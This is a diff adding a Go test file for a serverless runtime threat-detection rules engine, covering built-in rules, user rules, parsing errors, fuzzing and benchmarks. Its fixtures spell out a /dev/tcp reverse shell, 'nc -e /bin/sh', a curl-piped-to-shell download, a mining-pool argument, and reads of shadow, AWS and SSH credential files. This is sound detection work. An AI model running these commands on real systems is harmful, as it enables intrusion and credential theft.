@@ -1,0 +1,312 @@
+package rules
+
+import (
+	"errors"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"moat.dev/moat/internal/detect"
+)
+
+var t0 = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
+
+// ev builds an event of a Go function in its invoke phase.
+func ev(kind string, f func(*detect.Event)) detect.Event {
+	e := detect.Event{Time: t0, Kind: kind, Function: "fn", Version: "1", Instance: "i", RequestID: "r1",
+		Phase: detect.PhaseInvoke, Runtime: "provided.al2023", PID: 10, PPID: 1, Exe: "/var/task/bootstrap"}
+	if f != nil {
+		f(&e)
+	}
+	return e
+}
+
+func exec(path string, argv ...string) detect.Event {
+	return ev("exec", func(e *detect.Event) { e.Path, e.Argv = path, append([]string{path}, argv...) })
+}
+
+func open(path string, intent ...string) detect.Event {
+	return ev("open", func(e *detect.Event) { e.Path, e.Intent = path, intent })
+}
+
+func connect(family, addr string, port int) detect.Event {
+	return ev("connect", func(e *detect.Event) { e.Family, e.Addr, e.Port = family, addr, port; e.Syscall = "connect" })
+}
+
+func denied(syscall string, at time.Duration) detect.Event {
+	return ev("denied", func(e *detect.Event) {
+		e.Syscall, e.Errno, e.Result, e.Time = syscall, "EPERM", -1, t0.Add(at)
+	})
+}
+
+// fired runs events through a fresh state and returns the rules that fired.
+func fired(t *testing.T, e *Engine, evs ...detect.Event) []string {
+	t.Helper()
+	st := e.NewState()
+	var out []string
+	for i := range evs {
+		for _, a := range e.Eval(st, &evs[i]) {
+			if a.RequestID != evs[i].RequestID || a.Function != "fn" || len(a.Evidence) == 0 || a.Summary == "" {
+				t.Errorf("alert %s lacks attribution or evidence: %+v", a.Rule, a)
+			}
+			out = append(out, a.Rule)
+		}
+	}
+	return out
+}
+
+func TestBuiltins(t *testing.T) {
+	e, err := New(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name   string
+		events []detect.Event
+		want   []string
+	}{
+		{"shell spawned", []detect.Event{exec("/bin/sh", "-c", "id")}, []string{"shell-spawned"}},
+		{"python spawned", []detect.Event{exec("/usr/bin/python3.11", "-c", "1")}, []string{"shell-spawned"}},
+		{"shell runtime's shell is fine", []detect.Event{func() detect.Event { x := exec("/bin/sh", "-c", "x"); x.Runtime = "shell"; return x }()}, nil},
+		{"interpreter during init is fine", []detect.Event{func() detect.Event { x := exec("/usr/bin/python3", "h.py"); x.Phase = detect.PhaseInit; return x }()}, nil},
+		{"reverse shell argv", []detect.Event{exec("/bin/sh", "-c", "sh -i >& /dev/tcp/198.18.0.1/4444 0>&1")}, []string{"shell-spawned", "reverse-shell"}},
+		{"nc -e", []detect.Event{exec("/usr/bin/nc", "198.18.0.1", "4444", "-e", "/bin/sh")}, []string{"reverse-shell", "network-tool"}},
+		{"connect then shell", []detect.Event{connect("inet", "198.18.0.1", 4444), exec("/bin/sh", "-c", "exit 0")}, []string{"mining-pool", "shell-spawned", "reverse-shell"}},
+		{"download piped to shell", []detect.Event{exec("/bin/sh", "-c", "curl -fsS http://198.18.0.1/x | sh")}, []string{"shell-spawned", "download-exec"}},
+		{"write then exec", []detect.Event{open("/tmp/x/p", "write", "create"), exec("/tmp/x/p")}, []string{"tmp-write-exec", "exec-from-writable"}},
+		{"chmod +x in tmp", []detect.Event{ev("chmod", func(e *detect.Event) { e.Path, e.Mode = "/tmp/p", 0o755 })}, []string{"tmp-chmod-exec"}},
+		{"hidden exec", []detect.Event{exec("/var/task/.hidden")}, []string{"exec-from-writable"}},
+		{"shm exec attempt", []detect.Event{func() detect.Event { x := exec("/dev/shm/p"); x.Result, x.Errno = -2, "ENOENT"; return x }()}, []string{"exec-from-writable"}},
+		{"environ", []detect.Event{open("/proc/1/environ", "read")}, []string{"environ-read"}},
+		{"own environ", []detect.Event{open("/proc/self/environ", "read")}, []string{"environ-read"}},
+		{"shadow", []detect.Event{open("/etc/shadow", "read")}, []string{"credential-read"}},
+		{"aws credentials", []detect.Event{open("/home/u/.aws/credentials", "read")}, []string{"credential-read"}},
+		{"ssh key", []detect.Event{open("/root/.ssh/id_ed25519", "read")}, []string{"credential-read"}},
+		{"metadata", []detect.Event{connect("inet", "169.254.169.254", 80)}, []string{"metadata-access"}},
+		{"metadata v6", []detect.Event{connect("inet6", "fd00:ec2::254", 80)}, []string{"metadata-access"}},
+		{"mining port", []detect.Event{connect("inet", "198.18.0.1", 3333)}, []string{"mining-pool"}},
+		{"miner argv", []detect.Event{exec("/tmp/m", "-o", "stratum+tcp://pool:1")}, []string{"exec-from-writable", "mining-pool"}},
+		{"denied ptrace", []detect.Event{denied("ptrace", 0)}, []string{"denied-syscall"}},
+		{"denied harmless", []detect.Event{denied("clone3", 0)}, nil},
+		{"setuid", []detect.Event{ev("setid", func(e *detect.Event) { e.Syscall, e.IDs = "setuid", []int64{0, -1, -1} })}, []string{"privilege-change"}},
+		{"capset", []detect.Event{ev("capset", func(e *detect.Event) { e.Syscall = "capset" })}, []string{"privilege-change"}},
+		{"docker socket", []detect.Event{connect("unix", "/var/run/docker.sock", 0)}, []string{"container-socket"}},
+		{"code tamper", []detect.Event{open("/var/task/bootstrap", "write")}, []string{"sensitive-write"}},
+		{"network tool", []detect.Event{exec("/usr/bin/socat", "-", "tcp:x:1")}, []string{"network-tool"}},
+		{"benign go function", []detect.Event{
+			open("/var/task/config.json", "read"), open("/etc/hosts", "read"), open("/tmp/scratch-1.json", "write", "create"),
+			open("/tmp/scratch-1.json", "read"), ev("unlink", func(e *detect.Event) { e.Path = "/tmp/scratch-1.json" }),
+			connect("inet", "127.0.0.1", 9001), connect("inet", "198.18.0.5", 443),
+		}, nil},
+		{"shell runtime init", []detect.Event{
+			func() detect.Event { x := exec("/usr/bin/curl", "-sS", "http://127.0.0.1:9001/next"); x.Runtime = "shell"; return x }(),
+			func() detect.Event { x := exec("/bin/sh", "-n", "f.sh"); x.Runtime, x.Phase = "shell", detect.PhaseInit; return x }(),
+		}, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := fired(t, e, tt.events...)
+			slices.Sort(got)
+			want := slices.Clone(tt.want)
+			slices.Sort(want)
+			if !slices.Equal(got, want) {
+				t.Errorf("fired %v, want %v", got, want)
+			}
+		})
+	}
+}
+
+func TestDeniedBurst(t *testing.T) {
+	e, _ := New(nil)
+	var evs []detect.Event
+	for i := range 25 {
+		evs = append(evs, denied("keyctl", time.Duration(i)*10*time.Millisecond))
+	}
+	got := fired(t, e, evs...)
+	n := 0
+	for _, r := range got {
+		if r == "denied-burst" {
+			n++
+		}
+	}
+	// 25 denials in 250 ms: one burst alert; keyctl itself once (dedup).
+	if n != 1 || !slices.Contains(got, "denied-syscall") || len(got) != 2 {
+		t.Errorf("fired %v, want one denied-burst and one denied-syscall", got)
+	}
+	// Nine spread over more than a second: no burst.
+	evs = nil
+	for i := range 9 {
+		evs = append(evs, denied("clone3", time.Duration(i)*200*time.Millisecond))
+	}
+	if got := fired(t, e, evs...); len(got) != 0 {
+		t.Errorf("slow denials fired %v", got)
+	}
+}
+
+func TestDedupPerRequest(t *testing.T) {
+	e, _ := New(nil)
+	st := e.NewState()
+	a := open("/proc/1/environ", "read")
+	b := a
+	b.RequestID = "r2"
+	n := 0
+	for _, x := range []detect.Event{a, a, a, b} {
+		n += len(e.Eval(st, &x))
+	}
+	if n != 2 || st.Suppressed() != 2 {
+		t.Errorf("alerts %d, suppressed %d; want 2 and 2", n, st.Suppressed())
+	}
+}
+
+const userRules = `
+rules:
+  - name: no-curl
+    description: curl started
+    severity: high
+    condition: kind == "exec" && path.endsWith("/curl")
+  - name: redis-outside
+    severity: medium
+    condition: kind == "connect" && port == 6379 && !addr.startsWith("10.")
+  - name: tmp-writes
+    severity: low
+    condition: kind == "open" && "write" in intent && path.startsWith("/tmp/")
+    functions: ["orders-*"]
+  - name: base64-argv
+    severity: info
+    condition: kind == "exec" && argv.exists(a, a.contains("base64"))
+  - name: fragile
+    severity: low
+    condition: kind == "exec" && argv[5] == "x"
+disable: [network-tool]
+`
+
+func TestUserRules(t *testing.T) {
+	f, err := Parse([]byte(userRules))
+	if err != nil {
+		t.Fatal(err)
+	}
+	e, err := New(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	orders := open("/tmp/a", "write")
+	orders.Function = "orders-eu"
+	tests := []struct {
+		name string
+		ev   detect.Event
+		want []string
+	}{
+		{"curl", exec("/usr/bin/curl", "-s", "x"), []string{"no-curl"}},
+		{"redis outside", connect("inet", "198.18.0.7", 6379), []string{"redis-outside"}},
+		{"redis inside", connect("inet", "10.0.0.7", 6379), nil},
+		{"tmp write of another function", open("/tmp/a", "write"), nil},
+		{"tmp write of orders", orders, []string{"tmp-writes"}},
+		{"base64", exec("/usr/bin/base64", "-d"), []string{"base64-argv"}},
+		{"network tool disabled", exec("/usr/bin/nmap", "x"), nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []string
+			for _, a := range e.Eval(e.NewState(), &tt.ev) {
+				if a.Rule == "no-curl" && a.Summary != "curl started: exec /usr/bin/curl -s x" {
+					t.Errorf("summary %q", a.Summary)
+				}
+				got = append(got, a.Rule)
+			}
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("fired %v, want %v", got, tt.want)
+			}
+		})
+	}
+	// argv[5] out of range: an evaluation error, counted, no match.
+	if e.EvalErrors() == 0 {
+		t.Error("the out-of-range argv index was not counted as an evaluation error")
+	}
+}
+
+func TestParseErrors(t *testing.T) {
+	tests := []struct{ name, doc, want string }{
+		{"not yaml", "rules: [", "did not find"},
+		{"unknown field", "rules:\n  - name: a\n    severity: low\n    condition: 'true'\n    when: x\n", "line 5: field when not found"},
+		{"bad name", "rules:\n  - name: Bad Name\n    severity: low\n    condition: 'true'\n", "name must match"},
+		{"builtin name", "rules:\n  - name: shell-spawned\n    severity: low\n    condition: 'true'\n", "built-in"},
+		{"duplicate", "rules:\n  - {name: a, severity: low, condition: 'true'}\n  - {name: a, severity: low, condition: 'true'}\n", "used twice"},
+		{"severity", "rules:\n  - {name: a, severity: urgent, condition: 'true'}\n", "severity must be"},
+		{"no condition", "rules:\n  - {name: a, severity: low}\n", "condition is required"},
+		{"bad glob", "rules:\n  - {name: a, severity: low, condition: 'true', functions: ['[']}\n", "not a valid pattern"},
+		{"unknown disable", "disable: [nope]\n", "not a built-in rule"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := Parse([]byte(tt.doc))
+			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("Parse = %v, want ErrInvalid containing %q", err, tt.want)
+			}
+		})
+	}
+	if f, err := Parse(nil); err != nil || len(f.Rules) != 0 {
+		t.Errorf("empty file: %v", err)
+	}
+}
+
+func TestCompileErrors(t *testing.T) {
+	tests := []struct{ name, cond, want string }{
+		{"syntax", `kind == `, "Syntax error"},
+		{"unknown field", `kind == "exec" && hostname == "x"`, "undeclared reference to 'hostname'"},
+		{"not bool", `path`, "must be a bool"},
+		{"type error", `port == "80"`, "no matching overload"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := New(&File{Rules: []Rule{{Name: "r", Severity: detect.SeverityLow, Condition: tt.cond}}})
+			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), `rule "r"`) {
+				t.Errorf("New = %v, want ErrInvalid naming rule r and containing %q", err, tt.want)
+			}
+		})
+	}
+}
+
+func FuzzParse(f *testing.F) {
+	f.Add([]byte(userRules))
+	f.Add([]byte("rules: []\n"))
+	f.Add([]byte("rules:\n  - {name: a, severity: low, condition: 'kind == \"exec\"'}\n"))
+	f.Fuzz(func(t *testing.T, b []byte) {
+		rf, err := Parse(b)
+		if err != nil {
+			return
+		}
+		e, err := New(rf)
+		if err != nil {
+			return
+		}
+		x := exec("/bin/sh", "-c", "id")
+		e.Eval(e.NewState(), &x)
+	})
+}
+
+func BenchmarkEval(b *testing.B) {
+	mix := []detect.Event{open("/var/task/config.json", "read"), open("/tmp/s.json", "write", "create"),
+		connect("inet", "198.18.0.5", 443), ev("exit", nil), open("/etc/hosts", "read")}
+	var rules []Rule
+	for i := range 20 {
+		rules = append(rules, Rule{Name: "r" + string(rune('a'+i)), Severity: detect.SeverityLow,
+			Condition: `kind == "connect" && port == 6379 || kind == "exec" && path.endsWith("/nc")`})
+	}
+	for _, c := range []struct {
+		name string
+		f    *File
+	}{{"builtins", nil}, {"builtins+20 user rules", &File{Rules: rules}}} {
+		b.Run(c.name, func(b *testing.B) {
+			e, err := New(c.f)
+			if err != nil {
+				b.Fatal(err)
+			}
+			st := e.NewState()
+			b.ReportAllocs()
+			for i := 0; b.Loop(); i++ {
+				e.Eval(st, &mix[i%len(mix)])
+			}
+		})
+	}
+}
